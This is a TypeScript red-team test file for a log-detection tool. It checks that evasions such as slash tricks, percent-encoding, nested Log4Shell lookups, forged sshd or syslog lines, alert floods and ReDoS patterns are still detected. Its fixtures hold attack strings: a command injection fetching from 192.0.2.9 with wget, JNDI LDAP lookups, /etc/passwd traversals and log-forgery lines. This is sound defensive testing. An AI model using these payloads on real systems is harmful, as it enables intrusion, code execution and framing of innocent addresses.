/**
 * Red team of the log detection (issue 14): an attacker who writes the log lines (their
 * request targets, user agents, user names) tries to make an attack invisible. Each
 * finding is numbered as in bench/redteam/README-detect.md; one not fixed is skipped
 * with its reason.
 */
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createSocket } from 'node:dgram';
import { connect } from 'node:net';
import type { Alert, LogEvent } from './model.js';
import { createParsers } from './parsers/registry.js';
import { BUILTIN_PATTERNS_YAML } from './parsers/patterns.js';
import { ScenarioEngine } from './scenarios/engine.js';
import { AlertDb } from './alerts/alert-db.js';
import { alert } from './alerts/fixtures.case.js';
import { toStored } from './alerts/stored.js';
import { collector, until } from './sources/collect.case.js';
import { SyslogSource } from './sources/syslog.js';
import { validateWatchConfig } from './watch/config.js';
import { loadBuiltinScenarios } from './scenarios/load.js';

const builtin = loadBuiltinScenarios();
const T0 = Date.parse('2026-12-01T10:00:00Z');
const MON = 'Dec';

function nginxLine(ip: string, method: string, target: string, status: number, sec: number, ua = 'Mozilla/5.0'): string {
  const d = new Date(T0 + sec * 1000);
  const hh = String(d.getUTCHours()).padStart(2, '0');
  const mm = String(d.getUTCMinutes()).padStart(2, '0');
  const ss = String(d.getUTCSeconds()).padStart(2, '0');
  return `${ip} - - [01/${MON}/2026:${hh}:${mm}:${ss} +0000] "${method} ${target} HTTP/1.1" ${status} 512 "-" "${ua}"`;
}

/** The built-in scenarios' alerts for these lines, read by the nginx access parser. */
function alertsFor(lines: readonly string[]): Alert[] {
  const parser = createParsers().get('nginx.access');
  const engine = new ScenarioEngine(builtin.scenarios);
  const out: Alert[] = [];
  let parsed = 0;
  for (const text of lines) {
    const e: LogEvent | null = parser.parse({ text, input: 'redteam', receivedAt: T0 });
    assert.ok(e, `the parser read: ${text}`);
    parsed++;
    out.push(...engine.onEvent(e));
  }
  assert.equal(parsed, lines.length);
  return out;
}

function detectors(lines: readonly string[]): string[] {
  return [...new Set(alertsFor(lines).map((a) => a.detector))].sort();
}

function repeat(n: number, f: (i: number) => string): string[] {
  return Array.from({ length: n }, (_, i) => f(i));
}

describe('red team: evasion in the request target', () => {
  it('the baseline: 30 failed POSTs to /wp-login.php are a brute force', () => {
    assert.ok(detectors(repeat(30, (i) => nginxLine('198.51.100.1', 'POST', '/wp-login.php', 200, i))).includes('web-login-bruteforce'));
  });

  // Finding 1: nginx merges slashes and drops `.` segments before it picks the PHP script,
  // so `//wp-login.php` and `/./wp-login.php` reach the login form; the exact match on
  // url.path missed them.
  for (const target of ['//wp-login.php', '/./wp-login.php', '/.//./wp-login.php', '/login//', '//xmlrpc.php']) {
    it(`finding 1: POST ${target} over and over is still a brute force`, () => {
      const got = detectors(repeat(30, (i) => nginxLine('198.51.100.2', 'POST', target, 200, i)));
      assert.ok(got.includes('web-login-bruteforce') || got.includes('wordpress-xmlrpc-abuse'), got.join(','));
    });
  }

  // Finding 1b: Apache's PHP handler (and nginx configs that split PATH_INFO) run
  // /wp-login.php/x as /wp-login.php.
  for (const target of ['/wp-login.php/x', '/xmlrpc.php/x']) {
    it(`finding 1: POST ${target} (a path after the script) over and over is still a brute force`, () => {
      const got = detectors(repeat(30, (i) => nginxLine('198.51.100.30', 'POST', target, 200, i)));
      assert.ok(got.includes('web-login-bruteforce') || got.includes('wordpress-xmlrpc-abuse'), got.join(',') || 'no alert');
    });
  }

  it('finding 1: a traversal spelled with `./` segments and doubled slashes is still a traversal', () => {
    assert.ok(detectors([nginxLine('203.0.113.1', 'GET', '/static/.././.././.././etc/./passwd', 400, 0)]).includes('path-traversal'));
  });

  // Finding 2: the query string was matched only as sent, so an attack percent-encoded
  // in the query (`%3B` for `;`, `.%2e/` for `../`) went through, while the lists say
  // "as sent and percent-decoded once".
  it('finding 2: a traversal percent-encoded in the query is a traversal', () => {
    assert.ok(detectors([nginxLine('203.0.113.2', 'GET', '/download?file=.%2e/.%2e/.%2e/etc%2fpasswd', 200, 0)]).includes('path-traversal'));
  });
  it('finding 2: a command injection percent-encoded in the query is a command injection', () => {
    assert.ok(detectors([nginxLine('203.0.113.3', 'GET', '/cgi-bin/x?host=%3BWGET%20http://192.0.2.9/a', 200, 0)]).includes('command-injection'));
  });

  // Finding 3: Log4Shell's lookups nest (`${${lower:j}ndi:`, `${${::-j}${::-n}di:`), the
  // obfuscation every scanner sent in 2021; only the literal `${jndi:` was known.
  for (const [where, line] of [
    ['query', nginxLine('203.0.113.4', 'GET', '/?x=${${lower:j}ndi:ldap://192.0.2.9/a}', 200, 0)],
    ['User-Agent', nginxLine('203.0.113.5', 'GET', '/', 200, 0, '${${::-j}${::-n}di:ldap://192.0.2.9/a}')],
    ['query, encoded', nginxLine('203.0.113.6', 'GET', '/?x=%24%7B%24%7Blower:j%7Dndi:ldap://192.0.2.9/a%7D', 200, 0)],
  ] as const) {
    it(`finding 3: a nested Log4Shell lookup in the ${where} is an attack`, () => {
      const got = detectors([line]);
      assert.ok(got.includes('command-injection') || got.includes('scanner-user-agent'), got.join(',') || 'no alert');
    });
  }

  // Finding 4: Java servlet containers (Tomcat, Jetty, Spring) strip `;params` from a path
  // segment, so `/login;x=1` is the login form; the exact match on url.path missed it.
  // url.path keeps the parameters (the traversal and injection detectors read `..;/` and
  // `;wget` there); the login scenario takes a login path followed by `;`.
  it('finding 4: POST /login;jsessionid=x over and over is still a brute force', () => {
    assert.ok(detectors(repeat(30, (i) => nginxLine('198.51.100.3', 'POST', `/login;jsessionid=${i}`, 401, i))).includes('web-login-bruteforce'));
  });
});

describe('red team: framing another address', () => {
  const sshd = createParsers().get('sshd');
  const at = (text: string): LogEvent | null => sshd.parse({ text, input: 'auth.log', receivedAt: T0 });

  it('a user name holding ` from ADDRESS port N` does not put that address in source.ip', () => {
    const forged = [
      'Dec  1 10:00:00 host sshd[1]: Invalid user x from 192.0.2.66 port 22 from 203.0.113.50 port 4444',
      'Dec  1 10:00:00 host sshd[1]: Failed password for invalid user x from 192.0.2.66 port 22 ssh2 from 203.0.113.50 port 4444 ssh2',
      'Dec  1 10:00:00 host sshd[1]: Connection closed by invalid user x 192.0.2.66 port 22 203.0.113.50 port 4444 [preauth]',
      'Dec  1 10:00:00 host sshd[1]: Disconnected from invalid user x 192.0.2.66 port 22 203.0.113.50 port 4444 [preauth]',
      'Dec  1 10:00:00 host sshd[1]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.50  user=x rhost=192.0.2.66',
    ];
    let checked = 0;
    for (const text of forged) {
      const e = at(text);
      assert.ok(e, text);
      assert.equal(e.fields['source.ip'], '203.0.113.50', text);
      checked++;
    }
    assert.equal(checked, forged.length);
  });

  // Finding 5: in the journal, SYSLOG_IDENTIFIER is the sender's word: any local user (a
  // web application's account after an RCE) runs `logger -t sshd "Failed password for root
  // from VICTIM port 22 ssh2"` six times and the victim is blocked. journald's _UID and
  // _COMM are its own; a non-root sender is named by its real command.
  it('finding 5: a journal record tagged sshd by an unprivileged process is not read as sshd', async () => {
    const { journalLine } = await import('./sources/journal.js');
    const forged = journalLine(
      { MESSAGE: 'Failed password for root from 192.0.2.77 port 22 ssh2', SYSLOG_IDENTIFIER: 'sshd', _COMM: 'logger', _UID: '33', _PID: '4242', __REALTIME_TIMESTAMP: String(T0 * 1000) },
      'journal', T0, 8192,
    );
    assert.ok(forged);
    assert.equal(sshd.parse(forged.line), null);
    const real = journalLine(
      { MESSAGE: 'Failed password for root from 192.0.2.77 port 22 ssh2', SYSLOG_IDENTIFIER: 'sshd', _COMM: 'sshd', _UID: '0', _PID: '4243', __REALTIME_TIMESTAMP: String(T0 * 1000) },
      'journal', T0, 8192,
    );
    assert.ok(real);
    assert.equal(sshd.parse(real.line)?.fields['source.ip'], '192.0.2.77');
  });

  // Finding 6: /var/log/auth.log holds what rsyslog was given, and any local user may give
  // it `logger -p auth.info -t sshd ...`: a file line does not say who wrote it, and no parser
  // can tell a forged one apart. The journal can: journald records the sender's uid from the
  // kernel. So sshd is read from the journal, where a line is sshd's or PAM's only from uid 0,
  // and `mamori watch` warns about a file input that carries sshd lines (watch/service.test.ts).
  //
  // sources/testdata/journal-senders.jsonl is `journalctl -o json` of a real systemd-journald
  // (252, in its own namespace) given: failures and an accepted key by root through a copy of
  // logger named sshd (standing in for sshd: uid 0, _COMM sshd; _COMM is missing where the
  // sender exited before journald read it); then as nobody (uid 65534) `logger -t sshd`
  // failures for 192.0.2.77, the same from a copy of logger named sshd (_COMM sshd) for
  // 192.0.2.78, whole auth.log lines as the message (`logger -t cron "Dec  3 ... sshd[4400]:
  // Failed password ..."`) for 192.0.2.79, PAM failures (rhost=192.0.2.80, eight users), and
  // native-protocol records that set _UID=0, _COMM=sshd and _SYSTEMD_UNIT themselves for
  // 192.0.2.81 (journald dropped those fields and kept its own). Eight of each.
  it('finding 6: in the journal (real journald records), only root\'s sshd and PAM lines are read; forged ones raise nothing', async () => {
    const { readFileSync } = await import('node:fs');
    const { journalLine } = await import('./sources/journal.js');
    const records = readFileSync(new URL('../src/sources/testdata/journal-senders.jsonl', import.meta.url), 'utf8')
      .split('\n')
      .filter(Boolean)
      .map((l) => JSON.parse(l) as Record<string, string>);
    const parsers = createParsers();
    const engine = new ScenarioEngine(builtin.scenarios);
    const alerts: Alert[] = [];
    const read = { root: 0, forged: 0 };
    for (const rec of records) {
      const j = journalLine(rec, 'journal', T0, 16384);
      assert.ok(j, rec.MESSAGE);
      const e = parsers.get('auto').parse(j.line);
      assert.equal(parsers.get('sshd').parse(j.line)?.fields['source.ip'], e?.fields['event.dataset'] === 'sshd' || e?.fields['event.dataset'] === 'pam' ? e.fields['source.ip'] : undefined);
      if (rec._UID === '0') {
        if (rec.SYSLOG_IDENTIFIER === 'sshd') {
          assert.equal(e?.fields['event.dataset'], 'sshd', rec.MESSAGE);
          read.root++;
        }
      } else {
        assert.equal(rec._UID, '65534');
        assert.ok(!e || (e.fields['event.dataset'] !== 'sshd' && e.fields['event.dataset'] !== 'pam'), `forged: ${rec.MESSAGE} read as ${JSON.stringify(e?.fields)}`);
        read.forged++;
      }
      if (e) alerts.push(...engine.onEvent(e));
    }
    assert.deepEqual(read, { root: 10, forged: 41 });
    // The eight failures root wrote are a brute force; none of the forged addresses is alerted on.
    const sources = new Set(alerts.map((a) => a.group['source.ip']));
    assert.ok(sources.has('198.51.100.10'), JSON.stringify([...sources]));
    for (const ip of ['192.0.2.77', '192.0.2.78', '192.0.2.79', '192.0.2.80', '192.0.2.81']) assert.ok(!sources.has(ip), `${ip} was framed`);
  });

  it('finding 6: the same forged lines in a file are read as sshd (why the journal is the source for sshd)', () => {
    // What the file gives: the forged failure is indistinguishable from sshd's own line.
    assert.equal(at('Dec  1 10:00:00 host sshd[4242]: Failed password for root from 192.0.2.77 port 22 ssh2')?.fields['source.ip'], '192.0.2.77');
  });
});

describe('red team: lines cut at the bound', () => {
  // Finding 7: a JSON access log line is cut at the source's bound (16 KiB) and a cut JSON
  // line did not parse at all: an attacker padding the User-Agent with quotes (each
  // escaped to `\"`, twice the bytes) made every one of their requests vanish.
  const BOUND = 16 * 1024;
  function cutJsonLine(ip: string, sec: number, pad: string): { text: string; input: string; receivedAt: number; truncated?: boolean } {
    const d = new Date(T0 + sec * 1000).toISOString();
    const full = JSON.stringify({ time_iso8601: d, remote_addr: ip, request: 'POST /wp-login.php HTTP/1.1', status: 200, body_bytes_sent: 512, http_referer: '-', http_user_agent: pad });
    return full.length > BOUND ? { text: full.slice(0, BOUND), input: 'access.json', receivedAt: T0, truncated: true } : { text: full, input: 'access.json', receivedAt: T0 };
  }

  for (const [name, pad] of [
    ['quotes', '"'.repeat(9000)],
    ['a cut inside an escape', `${'x'.repeat(BOUND - 186)}\\u0041${'"'.repeat(50)}`],
    ['letters', 'A'.repeat(20000)],
  ] as const) {
    it(`finding 7: a JSON access line cut inside its padded User-Agent (${name}) is still read`, () => {
      const parser = createParsers().get('nginx.json');
      const engine = new ScenarioEngine(builtin.scenarios);
      const alerts: Alert[] = [];
      for (let i = 0; i < 30; i++) {
        const raw = cutJsonLine('198.51.100.20', i, pad);
        assert.equal(raw.truncated, true);
        const e = parser.parse(raw);
        assert.ok(e, 'the cut line is read');
        assert.equal(e.fields['source.ip'], '198.51.100.20');
        assert.equal(e.fields['url.path'], '/wp-login.php');
        alerts.push(...engine.onEvent(e));
      }
      assert.ok(alerts.some((a) => a.detector === 'web-login-bruteforce'));
    });
  }

  it('finding 7: a cut JSON line is mended only inside a string value', async () => {
    const { closeCutJson } = await import('./parsers/json.js');
    assert.equal(closeCutJson('{"a":"xy'), '{"a":"xy…"}');
    assert.equal(closeCutJson('{"a":{"b":["c","d\\'), '{"a":{"b":["c","d…"]}}');
    assert.equal(closeCutJson('{"a":"x\\u00'), '{"a":"x…"}');
    assert.equal(closeCutJson('{"a":"x","lon'), undefined); // a cut key: nothing to mend
    assert.equal(closeCutJson('{"a":12'), undefined);
    assert.equal(closeCutJson(`${'['.repeat(100)}"x`), undefined);
  });
});

describe('red team: alert storms', () => {
  // Finding 8: alerts.db keeps its newest 100,000 rows. An attacker who raises cheap alerts
  // at will (a scanner User-Agent from a /64 of addresses, each its own alert) pushed the
  // record of the high alert of the real intrusion out of the table.
  it('finding 8: a flood of low alerts does not push a high one out of alerts.db', () => {
    const db = AlertDb.open({ path: ':memory:', maxAlerts: 100 });
    const hash = (n: string): string => `h:${n.length}`;
    const high = alert({ id: 'the-intrusion', severity: 'high', time: T0 });
    assert.equal(db.insert(toStored(high, hash, 1)), true);
    let inserted = 0;
    for (let i = 0; i < 2000; i++) {
      const ip = `2001:db8:1:2::${i.toString(16)}`;
      if (db.insert(toStored(alert({ id: `ua-${i}`, ip, detector: 'scanner-user-agent', severity: 'low', time: T0 + 1000 + i }), hash, 1))) inserted++;
    }
    assert.equal(inserted, 2000);
    assert.ok(db.size <= 110, String(db.size));
    const ids = db.list({ limit: 1000 }).map((a) => a.id);
    assert.ok(ids.includes('the-intrusion'), 'the high alert is kept');
    assert.ok(ids.includes('ua-1999') && !ids.includes('ua-0'), 'the low ones go oldest first');
    db.close();
  });
});

describe('red team: many addresses of one attacker', () => {
  // Finding 9: every detector counts per address, and an IPv6 host owns a /64 (2^64
  // addresses it may send from). Five failures from each of 60 addresses of one /64 is
  // 300 password guesses and no alert; each address blocked alone would also be one
  // decision per address.
  // Fixed: the brute-force scenarios group by net(source.ip), an IPv6 source by its /64, and
  // the alert asks for a decision on the /64; IPv4 sources stay one per address.
  it('finding 9: SSH failures from many addresses of one /64 are a brute force', () => {
    const sshd = createParsers().get('sshd');
    const engine = new ScenarioEngine(builtin.scenarios);
    const alerts: Alert[] = [];
    for (let i = 0; i < 300; i++) {
      const ip = `2001:db8:1:2::${Math.floor(i / 5).toString(16)}`;
      const s = String(i % 60).padStart(2, '0');
      const m = String(Math.floor(i / 60)).padStart(2, '0');
      const e = sshd.parse({ text: `Dec  1 10:${m}:${s} host sshd[1]: Failed password for root from ${ip} port 22 ssh2`, input: 'auth.log', receivedAt: T0 });
      assert.ok(e);
      alerts.push(...engine.onEvent(e));
    }
    const bf = alerts.find((a) => a.detector === 'ssh-bruteforce');
    assert.ok(bf, 'an ssh-bruteforce alert');
    assert.equal(bf.group['source.ip'], '2001:db8:1:2::/64');
    assert.deepEqual(bf.remedy && { scope: bf.remedy.scope, value: bf.remedy.value }, { scope: 'range', value: '2001:db8:1:2::/64' });
  });

  it('finding 9, IPv4: addresses of one /24 are still counted one by one', () => {
    const sshd = createParsers().get('sshd');
    const engine = new ScenarioEngine(builtin.scenarios);
    const alerts: Alert[] = [];
    for (let i = 0; i < 300; i++) {
      const ip = `198.51.100.${Math.floor(i / 5)}`;
      const s = String(i % 60).padStart(2, '0');
      const m = String(Math.floor(i / 60)).padStart(2, '0');
      const e = sshd.parse({ text: `Dec  1 10:${m}:${s} host sshd[1]: Failed password for root from ${ip} port 22 ssh2`, input: 'auth.log', receivedAt: T0 });
      assert.ok(e);
      alerts.push(...engine.onEvent(e));
    }
    assert.equal(alerts.filter((a) => a.detector === 'ssh-bruteforce').length, 0, 'five failures a minute apart from each address is no brute force');
  });
});

describe('red team: user pattern files', () => {
  // Finding 10: a pattern file's regexes ran on V8's backtracking engine behind a static
  // check. Two shapes passed it and take exponential or high polynomial time on a short line
  // an attacker writes: a bounded repeat of a group holding a repeat, and adjacent runs of
  // overlapping classes (the check counted only `.*`). `^(?:a{1,30}){1,30}$` took 11 s on 29
  // characters; `^\\S*\\S*\\S*\\S*\\S*\\S*!` more than 20 s on 200. A user's patterns now run
  // on RE2. (Without the fix this test does not end: the guard is the runner's timeout.)
  it('finding 10: a user pattern that would backtrack for years runs in one pass', { timeout: 120_000 }, async () => {
    const { readPatternFile, runRules } = await import('./parsers/grok.js');
    const file = [
      'formats:',
      '  nested:',
      "    - match: '^(?:a{1,30}){1,30}$'",
      '  stacked:',
      "    - match: '^\\S*\\S*\\S*\\S*\\S*\\S*!'",
      '  fine:',
      "    - match: '^%{INT:source.port:int} %{NOTSPACE:user.name}(?: from %{IP:source.ip:source})?'",
    ].join('\n');
    const { formats } = readPatternFile(file, 'user.yaml', readPatternFile(BUILTIN_PATTERNS_YAML, 'built-in').library, true);
    let ran = 0;
    for (const [name, text] of [['nested', `${'a'.repeat(60)}b`], ['stacked', 'a'.repeat(5000)]] as const) {
      const f = {};
      assert.equal(runRules(formats.get(name)!, text, f, T0, 'utc'), undefined, name);
      ran++;
    }
    assert.equal(ran, 2);
    const f: Record<string, unknown> = {};
    assert.ok(runRules(formats.get('fine')!, '22 root from ::ffff:192.0.2.4 tail', f as never, T0, 'utc'));
    assert.deepEqual(f, { 'source.port': 22, 'user.name': 'root', 'source.ip': '192.0.2.4' });
    const g: Record<string, unknown> = {};
    assert.ok(runRules(formats.get('fine')!, '22 root', g as never, T0, 'utc'));
    assert.deepEqual(g, { 'source.port': 22, 'user.name': 'root' });
  });
});

describe('red team: syslog senders', () => {
  // Finding 11: syslog has no authentication. A syslog input on an interface others reach
  // took `sshd[1]: Failed password for root from VICTIM port 22 ssh2` from anyone, and six
  // of them blocked the victim; 64 idle TCP connections also held every slot for 5 minutes.
  // `senders:` names who may send.
  const forged = '<38>Dec  1 10:00:00 web1 sshd[4242]: Failed password for root from 192.0.2.77 port 22 ssh2';

  it('finding 11: a datagram from an address not among the senders is dropped and counted', async () => {
    const s = new SyslogSource({ transport: 'udp', port: 0, senders: ['192.0.2.0/24', '2001:db8::1'] });
    const c = collector();
    await s.start(c.consumer);
    const { host, port } = s.address();
    const u = createSocket('udp4');
    await new Promise<void>((r) => u.send(forged, port, host, () => r()));
    await until(() => s.counters.skipped === 1, 'the datagram skipped');
    u.close();
    await s.stop();
    assert.equal(c.lines.length, 0);
  });

  it('finding 11: a TCP connection from elsewhere is closed at once; an allowed sender is read', async () => {
    const refused = new SyslogSource({ transport: 'tcp', port: 0, senders: ['192.0.2.1'] });
    const c1 = collector();
    await refused.start(c1.consumer);
    const a = refused.address();
    const closed = await new Promise<boolean>((resolve) => {
      const sock = connect(a.port, a.host, () => sock.write(`${forged}\n`));
      sock.on('error', () => resolve(true));
      sock.on('close', () => resolve(true));
    });
    assert.equal(closed, true);
    await until(() => refused.counters.skipped === 1, 'the connection refused');
    await refused.stop();
    assert.equal(c1.lines.length, 0);

    const allowed = new SyslogSource({ transport: 'udp', port: 0, senders: ['127.0.0.1'] });
    const c2 = collector();
    await allowed.start(c2.consumer);
    const b = allowed.address();
    const u = createSocket('udp4');
    await new Promise<void>((r) => u.send(forged, b.port, b.host, () => r()));
    await until(() => c2.lines.length === 1, 'the datagram read');
    u.close();
    await allowed.stop();
    assert.equal(c2.lines[0]!.meta?.program, 'sshd');
  });

  it('finding 11: senders: is read from the watch: section and a bad one is a clear error', () => {
    assert.throws(() => new SyslogSource({ transport: 'udp', port: 0, senders: ['not-an-address'] }), /senders: "not-an-address" is not an address/);
    const w = validateWatchConfig({ inputs: [{ syslog: { transport: 'udp', host: '0.0.0.0', senders: ['192.0.2.0/24'] } }] });
    const i = w.inputs[0]!;
    assert.ok(i.kind === 'syslog');
    assert.deepEqual(i.senders, ['192.0.2.0/24']);
  });
});
